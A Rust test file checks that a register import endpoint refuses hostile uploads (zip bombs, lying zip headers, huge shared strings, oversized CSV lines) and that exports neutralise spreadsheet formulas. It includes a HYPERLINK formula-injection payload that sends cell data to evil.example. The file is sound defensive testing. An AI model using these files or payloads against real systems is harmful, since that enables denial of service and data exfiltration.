//! Hostile files for `POST /register/import` (each is answered with a clear 4xx error in
//! bounded memory, and the server answers afterwards), and formulas in exports (a CSV cell
//! a spreadsheet would run is guarded, an XLSX cell is a string, and both import again).

use crate::register_io::{counts, export, import, imported, units_csv, CSV};
use crate::support::{self, Backend, TestServer};
use calamine::{Data, Reader, Xlsx};
use reqwest::StatusCode;
use rstest::rstest;
use rust_xlsxwriter::Workbook;
use serde_json::Value;
use server::register_io::limits::{MAX_CELL_BYTES, MAX_SHEET_PART_BYTES};
use server::register_io::{ImportReport, MAX_FILE_BYTES, XLSX_TYPE};
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

/// A small workbook of one sheet with `A1` and what `more` writes.
fn small_xlsx(more: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "楼栋").unwrap();
    more(sheet);
    book.save_to_buffer().unwrap()
}

/// `xlsx` with entry `name` replaced (or added) by what `write` writes, deflated.
fn with_entry(xlsx: &[u8], name: &str, write: impl FnOnce(&mut dyn Write)) -> Vec<u8> {
    let mut from = ZipArchive::new(Cursor::new(xlsx)).unwrap();
    let mut to = ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..from.len() {
        let entry = from.by_index_raw(i).unwrap();
        if entry.name().unwrap() != name {
            to.raw_copy_file(entry).unwrap();
        }
    }
    let options = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .compression_level(Some(9));
    to.start_file(name, options).unwrap();
    write(&mut to);
    to.finish().unwrap().into_inner()
}

/// Writes `n` bytes of `pattern` repeated, in 1 MiB pieces.
fn fill(w: &mut dyn Write, pattern: &[u8], n: u64) {
    let piece: Vec<u8> = pattern.iter().copied().cycle().take(1 << 20).collect();
    let mut left = n;
    while left > 0 {
        let k = left.min(piece.len() as u64) as usize;
        w.write_all(&piece[..k]).unwrap();
        left -= k as u64;
    }
}

/// Sets the unpacked size the central directory declares for `name` (a header that lies).
fn declare_size(zip: &mut [u8], name: &str, size: u32) {
    let sig = [0x50, 0x4b, 0x01, 0x02];
    let at = (0..zip.len() - 46)
        .find(|&i| zip[i..i + 4] == sig && zip[i + 46..].starts_with(name.as_bytes()))
        .expect("central directory entry");
    zip[at + 24..at + 28].copy_from_slice(&size.to_le_bytes());
}

/// The hostile files: what each is, its bytes and content type.
fn hostile_files() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let sheet = "xl/worksheets/sheet1.xml";
    let huge_dimension = small_xlsx(|s| {
        s.write_string(1_048_575, 16_383, "far").unwrap();
    });
    let far_cell = with_entry(&small_xlsx(|_| {}), sheet, |w| {
        w.write_all(
            b"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
              <sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>a</t></is></c></row>\
              <row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData></worksheet>",
        )
        .unwrap()
    });
    let giant_string = with_entry(&small_xlsx(|_| {}), "xl/sharedStrings.xml", |w| {
        w.write_all(b"<sst uniqueCount=\"1\"><si><t>").unwrap();
        fill(w, b"a", 100 * 1024 * 1024);
        w.write_all(b"</t></si></sst>").unwrap();
    });
    let reserving = with_entry(&small_xlsx(|_| {}), "xl/sharedStrings.xml", |w| {
        w.write_all(b"<sst uniqueCount=\"100000000000\"><si><t>a</t></si></sst>").unwrap()
    });
    let gigabyte =
        with_entry(&small_xlsx(|_| {}), "xl/media/zeros.bin", |w| fill(w, &[0], 1 << 30));
    let deep_ratio =
        with_entry(&small_xlsx(|_| {}), sheet, |w| fill(w, b"<a/>", MAX_SHEET_PART_BYTES - 1024));
    let mut lying = with_entry(&small_xlsx(|_| {}), "xl/worksheets/sheet2.xml", |w| {
        fill(w, b"<a/>", 8 * 1024 * 1024)
    });
    declare_size(&mut lying, "xl/worksheets/sheet2.xml", 1000);
    let whole = small_xlsx(|_| {});
    let truncated = whole[..whole.len() / 2].to_vec();
    let mut long_csv = b"\xEF\xBB\xBF\xE6\xA5\xBC\xE6\xA0\x8B,".to_vec();
    long_csv.resize(MAX_FILE_BYTES - 1024, b'x');
    let mut long_cell = "楼栋,房号\n0号楼,".as_bytes().to_vec();
    long_cell.extend(std::iter::repeat_n(b'y', MAX_CELL_BYTES + 1));
    vec![
        ("cells A1 and XFD1048576", huge_dimension, XLSX_TYPE),
        ("a far cell under no dimension", far_cell, XLSX_TYPE),
        ("a 100 MB shared string", giant_string, XLSX_TYPE),
        ("a shared string count of 10^11", reserving, XLSX_TYPE),
        ("a 1 GiB entry of zeros", gigabyte, XLSX_TYPE),
        ("a sheet of empty tags at 1000:1", deep_ratio, XLSX_TYPE),
        ("an entry larger than its header says", lying, XLSX_TYPE),
        ("half a zip", truncated, XLSX_TYPE),
        ("a CSV line of 20 MB", long_csv, CSV),
        ("a CSV cell over the cell limit", long_cell, CSV),
    ]
}

/// The server still imports an ordinary file.
async fn still_answers(s: &TestServer, token: &str) {
    let r = imported(s, token, units_csv("zh").into_bytes(), CSV, false).await;
    assert_eq!((r.units, r.errors), (counts(2, 1, 0), vec![]));
}

#[rstest]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_files_are_refused_clearly_and_the_server_stays_up(
    #[values(Backend::Sqlite, Backend::Postgres)] b: Backend,
) {
    let Some(s) = support::start(b).await else { return };
    let office = s.login("office").await;
    for (what, body, ct) in hostile_files() {
        let size = body.len();
        let r = import(&s, &office, body, ct, true).await;
        let status = r.status();
        let v: Value = r.json().await.unwrap_or_else(|e| panic!("{what}: not JSON: {e}"));
        let code = v["error"]["code"].as_str().unwrap_or_default();
        let message = v["error"]["message"].as_str().unwrap_or_default();
        println!("{what} ({size} bytes): {status} {code}: {message}");
        assert!(status.is_client_error(), "{what}: {status} {v}");
        assert!(
            ["import_limit", "unsupported_media_type", "payload_too_large"].contains(&code),
            "{what}: {v}"
        );
        assert!(message.contains(" / "), "{what}: not in English and Chinese: {message}");
        still_answers(&s, &office).await;
    }
    // A CSV line of 50 MB is refused once 20 MiB of it are in; the server reads no more.
    match line_of_50_mb(&s, &office).await {
        Some(answer) => {
            assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
            assert!(answer.contains("payload_too_large"), "{answer}");
        }
        None => println!("a CSV line of 50 MB: the connection was reset after the refusal"),
    }
    still_answers(&s, &office).await;
}

/// Sends a CSV file of one 50 MB line while reading the answer: the server's answer, or
/// `None` when the connection was reset first (a socket closed with unread bytes is reset,
/// which may drop the answer; reqwest fails on its write instead).
async fn line_of_50_mb(s: &TestServer, token: &str) -> Option<String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let length = 50 * 1024 * 1024;
    let tcp = tokio::net::TcpStream::connect(s.addr).await.unwrap();
    let (mut rx, mut tx) = tcp.into_split();
    let head = format!(
        "POST /api/v1/register/import?commit=true HTTP/1.1\r\nHost: {}\r\n\
         Authorization: Bearer {token}\r\nContent-Type: text/csv\r\n\
         Content-Length: {length}\r\n\r\n",
        s.addr
    );
    tx.write_all(head.as_bytes()).await.unwrap();
    let writer = tokio::spawn(async move {
        let piece = vec![b'z'; 64 * 1024];
        for _ in 0..length / piece.len() {
            if tx.write_all(&piece).await.is_err() {
                return;
            }
        }
    });
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n @ 1..) = rx.read(&mut buf).await {
        answer.extend_from_slice(&buf[..n]);
        let text = String::from_utf8_lossy(&answer);
        let Some((head, body)) = text.split_once("\r\n\r\n") else { continue };
        let length = head
            .lines()
            .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(str::to_owned))
            .and_then(|v| v.trim().parse::<usize>().ok())
            .expect("an answer with a length");
        if body.len() >= length {
            writer.abort();
            return Some(text.into_owned());
        }
    }
    writer.abort();
    (!answer.is_empty()).then(|| String::from_utf8_lossy(&answer).into_owned())
}

/// Names a spreadsheet would run as formulas, and one starting with a quote.
const NAMES: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&C2,\"点我\")",
    "@SUM(1+1)",
    "+86 138",
    "-减号",
    "'=quoted",
];

/// A people CSV file naming [`NAMES`] (the quote doubled, as an export writes it).
fn formula_people() -> Vec<u8> {
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["楼栋", "房号", "姓名"]).unwrap();
    for name in NAMES {
        let written = if name.starts_with('\'') { format!("'{name}") } else { name.into() };
        csv.write_record(["0号楼", "0-0101", written.as_str()]).unwrap();
    }
    csv.into_inner().unwrap()
}

#[rstest]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exported_formulas_are_text_and_import_again(
    #[values(Backend::Sqlite, Backend::Postgres)] b: Backend,
) {
    let Some(s) = support::start(b).await else { return };
    let office = s.login("office").await;
    imported(&s, &office, units_csv("zh").into_bytes(), CSV, true).await;
    let done = imported(&s, &office, formula_people(), CSV, true).await;
    assert_eq!((done.people, done.errors), (counts(5, 0, 0), vec![]));

    let csv = export(&s, &office, "format=csv&table=people").await.bytes().await.unwrap();
    let mut cells = Vec::new();
    for record in csv::Reader::from_reader(&csv[3..]).records() {
        cells.extend(record.unwrap().iter().map(str::to_owned));
    }
    for cell in &cells {
        let first = cell.chars().next();
        assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "live: {cell}");
    }
    for name in NAMES {
        assert!(cells.contains(&format!("'{name}")), "{name} not guarded in {cells:?}");
    }
    let again: ImportReport = imported(&s, &office, csv.to_vec(), CSV, true).await;
    assert_eq!((again.people, again.errors), (counts(0, 0, 5), vec![]));

    let xlsx = export(&s, &office, "format=xlsx").await.bytes().await.unwrap().to_vec();
    let mut book = Xlsx::new(Cursor::new(xlsx.clone())).unwrap();
    let sheet = book.sheet_names()[1].clone();
    let values = book.worksheet_range(&sheet).unwrap();
    for name in NAMES {
        assert!(values.used_cells().any(|(.., v)| *v == Data::String(name.into())), "{name}");
    }
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert_eq!(formulas.used_cells().filter(|(.., f)| !f.is_empty()).count(), 0);
    let again = imported(&s, &office, xlsx, XLSX_TYPE, true).await;
    assert_eq!((again.people, again.errors), (counts(0, 0, 5), vec![]));
    assert_eq!(StatusCode::OK, export(&s, &office, "format=xlsx").await.status());
}
